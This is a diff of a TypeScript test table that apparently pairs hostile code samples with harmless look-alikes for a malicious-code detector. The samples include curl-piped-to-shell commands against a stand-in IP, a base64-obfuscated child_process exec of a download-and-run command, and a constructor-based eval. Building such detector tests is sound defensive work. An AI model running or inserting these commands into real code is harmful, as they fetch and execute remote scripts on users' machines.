@@ -36,7 +36,7 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
   ['the constructor of a function', 'decode-execute', `[].filter.constructor(atob('YWxlcnQoMSk='))()`, `class A { m() { return new this.constructor() } }`],
   [
     'a hidden command',
-    'download-execute',
+    'decode-execute',
     `const { exec: run } = require('node:child_process')\nrun(Buffer.from('Y3VybCBodHRwczovL3guc29tZS1zaXRlLm5ldC9hIHwgc2g=', 'base64').toString())`,
     `const { exec: run } = require('node:child_process')\nrun('npm run build')`,
   ],
@@ -133,13 +133,13 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
   [
     'a shell string',
     'download-execute',
-    'import { execSync } from "child_process"\nexecSync(`curl -s https://x.some-site.net/i.sh${query} | bash`)',
+    'import { execSync } from "child_process"\nexecSync(`curl -s http://203.0.113.7/i.sh${query} | bash`)',
     'import { execSync } from "child_process"\nexecSync(`git log ${range}`)',
   ],
   [
     'a tagged template',
     'download-execute',
-    'import { $ } from "bun"\nawait $`curl -s https://x.some-site.net/i.sh | sh`',
+    'import { $ } from "bun"\nawait $`curl -s http://203.0.113.7/i.sh | sh`',
     'import { $ } from "bun"\nawait $`ls`\n$("#id").hide()',
   ],
   [
